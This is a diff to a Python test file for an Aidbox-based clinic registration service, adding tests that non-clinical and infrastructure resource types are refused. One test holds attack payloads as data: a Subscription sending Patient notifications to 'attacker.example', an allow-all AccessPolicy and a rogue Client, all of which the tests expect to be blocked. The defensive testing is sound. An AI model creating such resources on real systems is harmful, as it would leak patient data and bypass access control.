@@ -129,8 +129,7 @@ async def test_registration_answers_a_secret_once_rotates_it_and_is_idempotent(
         ({"id": "hq-app", "name": "x"}, 409),  # an existing Client that is no clinic's
         ({"id": "clinic_c", "name": "x"}, 400),  # not an instance id
         ({"id": "clinic-c"}, 422),  # a new clinic needs a name
-        ({"id": "clinic-c", "name": "x", "types": ["Client"]}, 400),
-        ({"id": "clinic-c", "name": "x", "types": ["AccessPolicy", "Patient"]}, 400),
+        ({"id": "clinic-c", "name": "x", "types": []}, 400),
         ({"id": "clinic-c", "name": "x", "status": "gone"}, 400),
     ],
 )
@@ -145,6 +144,55 @@ async def test_registration_refuses_what_it_must_not_do(
     assert resp.status == status, resp.body
     assert resp.body["resourceType"] == "OperationOutcome"
     assert (await global_root.request("GET", "/AidboxInstance/clinic-c")).status == 404
+
+
+@pytest.mark.parametrize(
+    "refused_types",
+    [
+        ["Client"],  # Aidbox's own, not FHIR R4
+        ["AccessPolicy", "Patient"],
+        ["User"],
+        ["App"],
+        ["FHIRSchema"],
+        ["AidboxInstance"],  # the App's own
+        ["SyncFence"],  # allowed by its own rule, never as a pushed type
+        ["Subscription"],  # FHIR R4, but Aidbox acts on it: notifications to any endpoint
+        ["SearchParameter", "Patient", "StructureDefinition"],
+        ["ValueSet"],
+        ["AuditEvent"],
+        ["Endpoint"],
+        ["Bundle"],
+        ["Questionnaire"],
+        ["Resource"],  # abstract
+        ["Patients"],
+    ],
+    ids="+".join,
+)
+async def test_registration_refuses_types_that_are_not_clinical_data(
+    headquarters: Headquarters, global_root: AidboxClient, refused_types: list[str]
+) -> None:
+    resp = await global_root.request(
+        "POST", "/$register-instance", json={"id": "clinic-c", "name": "x", "types": refused_types}
+    )
+    assert resp.status == 422, resp.body
+    assert resp.body["resourceType"] == "OperationOutcome"
+    diagnostics = resp.body["issue"][0]["diagnostics"]
+    for name in refused_types:
+        assert (name in diagnostics) == (name != "Patient"), (name, diagnostics)
+    # refused before anything is written: neither the instance nor its Client exists
+    assert (await global_root.request("GET", "/AidboxInstance/clinic-c")).status == 404
+    assert (await global_root.request("GET", "/Client/clinic-c")).status == 404
+
+
+async def test_registration_takes_every_clinical_type(
+    headquarters: Headquarters, global_root: AidboxClient
+) -> None:
+    wanted = ["Patient", "Observation", "CarePlan", "Coverage", "MedicationRequest", "Basic"]
+    resp = await global_root.request(
+        "POST", "/$register-instance", json={"id": "clinic-c", "name": "x", "types": wanted}
+    )
+    assert resp.status == 201, resp.body
+    assert resp.body["instance"]["types"] == wanted
 
 
 async def test_only_root_may_register(headquarters: Headquarters, as_a: AidboxClient) -> None:
@@ -371,6 +419,53 @@ async def test_one_forbidden_entry_fails_the_whole_transaction(
     held = await resources(global_root, "Patient")
     assert own("Patient", "p3") not in held
     assert held[b_patient]["gender"] == "male"
+
+
+async def test_an_instance_edited_to_list_infrastructure_types_still_writes_none(
+    headquarters: Headquarters, as_a: AidboxClient, global_root: AidboxClient
+) -> None:
+    # Defence in depth: the registration refuses these types, and the policy refuses writes of
+    # them whatever an AidboxInstance lists (an operator's hand edit, an older registration).
+    instance = (await global_root.call("GET", f"/AidboxInstance/{CLINIC}")).body
+    infrastructure = ["AccessPolicy", "Client", "Subscription", "SearchParameter", "App"]
+    edited = {**instance, "types": [*instance["types"], *infrastructure]}
+    await global_root.call("PUT", f"/AidboxInstance/{CLINIC}", json=edited)
+    attempts = {
+        "AccessPolicy": {"engine": "allow"},  # a global policy that would allow anyone anything
+        "Client": {"secret": "s3cret", "grant_types": ["basic"]},
+        "Subscription": {
+            "status": "active",
+            "reason": "x",
+            "criteria": "Patient",
+            "channel": {"type": "rest-hook", "endpoint": "https://attacker.example/hook"},
+        },
+        "SearchParameter": {
+            "url": "http://x.example/sp",
+            "name": "x",
+            "status": "active",
+            "description": "x",
+            "code": "x",
+            "base": ["Patient"],
+            "type": "token",
+            "expression": "Patient.id",
+        },
+        "App": {"type": "app", "apiVersion": 1},
+    }
+    for rtype, payload in attempts.items():
+        rid = own(rtype, "x")
+        resp = await as_a.request("PUT", f"/{rtype}/{rid}", json={**payload, "id": rid})
+        assert refused(resp), (rtype, resp.status, resp.body)
+        entry = {"request": {"method": "PUT", "url": f"{rtype}/{rid}"}, "resource": payload}
+        resp = await as_a.request("POST", "/", json=transaction(entry))
+        assert refused(resp), (rtype, resp.status, resp.body)
+        assert (await global_root.request("GET", f"/{rtype}/{rid}")).status == 404, rtype
+    pid = own("Patient", "p8")
+    assert (await as_a.request("PUT", f"/Patient/{pid}", json=body("Patient", pid))).status == 201
+
+    # registering again (a suspension, say) drops what may not be registered, refuses nothing
+    again = await headquarters.register(CLINIC, status="suspended")
+    assert again["instance"]["types"] == instance["types"]
+    assert again["instance"]["status"] == "suspended"
 
 
 # -- suspension, reactivation, removal ---------------------------------------------------
